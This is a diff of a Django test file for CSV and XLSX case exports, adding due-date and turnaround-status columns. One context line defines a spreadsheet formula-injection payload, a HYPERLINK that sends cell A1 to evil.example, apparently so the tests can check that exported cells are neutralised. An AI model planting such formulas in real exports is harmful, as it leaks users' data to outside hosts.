@@ -18,6 +18,8 @@ from cases.models import Case
 from cases.rules import MiType, OnHoldReason, Status
 from cases.tests.data import csv_bytes, row, upload
 from cases.tests.factories import CaseFactory
+from cases.turnaround.states import TurnaroundState, state_of
+from cases.working_days import london_today
 
 pytestmark = pytest.mark.django_db
 LONDON = ZoneInfo("Europe/London")
@@ -50,6 +52,8 @@ HEADERS = [
     "User ID",
     "Original Status",
     "Updated At",
+    "Due Date",
+    "Turnaround",
 ]
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 
@@ -177,6 +181,8 @@ def expected_csv_row(case: Case) -> list[str]:
         safe(case.source_user_id),
         safe(case.original_status),
         london(case.updated_at),
+        case.turnaround_due.isoformat() if case.turnaround_due else "",
+        TurnaroundState(state_of(phase=case.turnaround_phase, due=case.turnaround_due, today=london_today())).label,
     ]
 
 
@@ -254,7 +260,7 @@ def test_xlsx_has_a_bold_frozen_header_an_autofilter_and_the_file_name(admin, bo
     assert [c.value for c in sheet[1]] == HEADERS
     assert all(c.font.bold for c in sheet[1])
     assert sheet.freeze_panes == "A2"
-    assert sheet.auto_filter.ref == "A1:AB5"
+    assert sheet.auto_filter.ref == "A1:AD5"
     assert sheet.max_row == 5
 
 
@@ -271,7 +277,7 @@ def test_xlsx_round_trips_to_the_database_with_real_dates_and_numbers(admin, boo
                 got = cell.value.isoformat() if cell.value else ""
                 want = datetime.fromisoformat(want).replace(tzinfo=None).isoformat() if want else ""
                 assert cell.is_date or not want
-            elif header == "Invoice Date":
+            elif header in ("Invoice Date", "Due Date"):
                 got = cell.value.date().isoformat() if cell.value else ""
             elif header == "MI Amount (£)":
                 got = f"{Decimal(str(cell.value)):.2f}" if cell.value is not None else ""
